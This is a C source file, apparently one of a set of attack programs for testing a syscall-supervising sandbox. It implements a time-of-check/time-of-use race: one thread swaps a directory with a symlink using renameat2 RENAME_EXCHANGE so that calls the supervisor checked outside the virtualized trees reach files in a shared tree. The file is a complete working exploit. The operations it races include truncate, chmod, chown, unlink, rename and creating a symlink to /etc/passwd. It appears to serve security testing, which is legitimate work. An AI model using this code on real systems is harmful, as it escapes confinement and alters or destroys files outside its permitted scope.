/* dirswap: a directory the supervisor resolved is not the one the call reaches.
 *
 * usage: dirswap OP MS SWAP DIRTARGET NAME1 [NAME2]
 *
 * SWAP is a path in the attacker's own directory, outside every virtualized tree. Thread B
 * exchanges, over and over (renameat2 RENAME_EXCHANGE), a real directory at SWAP with a symbolic
 * link to DIRTARGET, a directory of the shared tree. Thread A calls OP on SWAP/NAME1 (and
 * SWAP/NAME2). When the supervisor resolves SWAP as the real directory, outside the trees, and
 * lets the kernel make the call (CONTINUE), or makes it itself by the path it resolved, and SWAP
 * is the link by then, the call reaches DIRTARGET/NAME1 in the shared tree.
 *
 * OP is one of flip.c's: truncate chmod chown utimensat setxattr removexattr unlink on NAME1, which
 * the real directory holds as a decoy; rename (NAME1 to NAME2); link (NAME1 to NAME2.N); mknod
 * mkdir symlink bind (create NAME1.N). N counts the calls, so that no call fails for a name an
 * earlier one made. The NAMEs may lead through subdirectories and back ("sub/../sub/../x"): each
 * step the supervisor resolves after SWAP widens the window in which the exchange must land. The
 * real directory gets the subdirectories; DIRTARGET must have them. Stops after MS milliseconds,
 * MAX_CALLS calls, or as soon as DIRTARGET or DIRTARGET/NAME1 changed on the host. Exit status 0,
 * 2 on a setup failure. */
#include "attack.h"
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/xattr.h>

static const char *op;
static int npaths;
static char swap[4096], swapsym[4096], path[2][4096];
static atomic_int stop, need_decoy;

/* put_decoy puts the decoy NAME1 back in the real directory, which must be at SWAP. */
static void put_decoy(void) {
	int fd = open(path[0], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd < 0)
		die(path[0]);
	write(fd, "decoy\n", 6);
	close(fd);
}

/* swapper exchanges the two names in pairs: between pairs the real directory is at SWAP, where
 * it puts back a decoy that a call took away. */
static void *swapper(void *arg) {
	(void)arg;
	while (!atomic_load(&stop)) {
		if (atomic_exchange(&need_decoy, 0))
			put_decoy();
		renameat2(AT_FDCWD, swap, AT_FDCWD, swapsym, RENAME_EXCHANGE);
		renameat2(AT_FDCWD, swap, AT_FDCWD, swapsym, RENAME_EXCHANGE);
	}
	return NULL;
}

/* mkdirs makes, in the real directory, the directories that name's steps go through. */
static void mkdirs(const char *name) {
	char dir[8192], step[4096];
	snprintf(dir, sizeof dir, "%s", swap);
	for (const char *p = name, *slash; (slash = strchr(p, '/')); p = slash + 1) {
		snprintf(step, sizeof step, "%.*s", (int)(slash - p), p);
		if (!strcmp(step, "."))
			continue;
		if (!strcmp(step, "..")) {
			*strrchr(dir, '/') = 0;
			continue;
		}
		strncat(dir, "/", sizeof dir - strlen(dir) - 1);
		strncat(dir, step, sizeof dir - strlen(dir) - 1);
		if (mkdir(dir, 0755) < 0 && errno != EEXIST)
			die(dir);
	}
}

static int creates(void) {
	return !strcmp(op, "mknod") || !strcmp(op, "mkdir") || !strcmp(op, "symlink") || !strcmp(op, "bind");
}

/* consumes says whether a call that succeeded on the decoy took it away. */
static int consumes(void) { return !strcmp(op, "unlink") || !strcmp(op, "rename"); }

static long call(long n) {
	char fresh[4096 + 32];
	snprintf(fresh, sizeof fresh, "%s.%ld", path[npaths - 1], n);
	const char *p = path[0];
	if (!strcmp(op, "truncate"))
		return truncate(p, 0);
	if (!strcmp(op, "chmod"))
		return chmod(p, 0777);
	if (!strcmp(op, "chown"))
		return chown(p, 65534, 65534);
	if (!strcmp(op, "utimensat"))
		return utimensat(AT_FDCWD, p, NULL, 0);
	if (!strcmp(op, "setxattr"))
		return setxattr(p, "user.evil", "1", 1, 0);
	if (!strcmp(op, "removexattr"))
		return removexattr(p, "user.x");
	if (!strcmp(op, "unlink"))
		return unlink(p);
	if (!strcmp(op, "rename"))
		return rename(p, path[1]);
	if (!strcmp(op, "link"))
		return link(p, fresh);
	if (!strcmp(op, "mknod"))
		return mknod(fresh, S_IFREG | 0644, 0);
	if (!strcmp(op, "mkdir"))
		return mkdir(fresh, 0755);
	if (!strcmp(op, "symlink"))
		return symlink("/etc/passwd", fresh);
	if (!strcmp(op, "bind")) {
		struct sockaddr_un sun = {.sun_family = AF_UNIX};
		if (strlen(fresh) >= sizeof sun.sun_path) {
			fprintf(stderr, "dirswap: %s is too long for a socket\n", fresh);
			exit(2);
		}
		strcpy(sun.sun_path, fresh);
		int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (s < 0)
			die("socket");
		long ret = bind(s, (struct sockaddr *)&sun, sizeof sun);
		int saved = errno;
		close(s);
		errno = saved;
		return ret;
	}
	fprintf(stderr, "dirswap: unknown op %s\n", op);
	exit(2);
}

int main(int argc, char **argv) {
	if (argc != 6 && argc != 7) {
		fprintf(stderr, "usage: dirswap OP MS SWAP DIRTARGET NAME1 [NAME2]\n");
		return 2;
	}
	op = argv[1];
	struct budget b = budget_from(argv[2]);
	const char *target = argv[4];
	npaths = argc - 5;
	snprintf(swap, sizeof swap, "%s", argv[3]);
	snprintf(swapsym, sizeof swapsym, "%s.sym", argv[3]);
	struct watch w = {0};
	for (int i = 0; i < npaths; i++) {
		snprintf(path[i], sizeof path[i], "%.2000s/%.1000s", swap, argv[5 + i]);
		char t[4096];
		snprintf(t, sizeof t, "%.2000s/%.1000s", target, argv[5 + i]);
		watch_path(&w, t);
	}
	if (mkdir(swap, 0755) < 0)
		die(swap);
	for (int i = 0; i < npaths; i++)
		mkdirs(argv[5 + i]);
	if (symlink(target, swapsym) < 0)
		die(swapsym);
	if (!creates())
		put_decoy();
	pthread_t th;
	if (pthread_create(&th, NULL, swapper, NULL) != 0)
		die("pthread_create");
	struct tally t = {0};
	const char *landed = NULL;
	long calls = 0;
	while (!landed && budget_left(&b, calls)) {
		long ret = call(calls);
		tally_add(&t, ret);
		calls++;
		if (ret == 0 && consumes())
			atomic_store(&need_decoy, 1);
		if (calls % 16 == 0)
			landed = watch_changed(&w);
	}
	if (!landed)
		landed = watch_changed(&w);
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	report(op, landed, calls, &b);
	tally_print(&t);
	return 0;
}
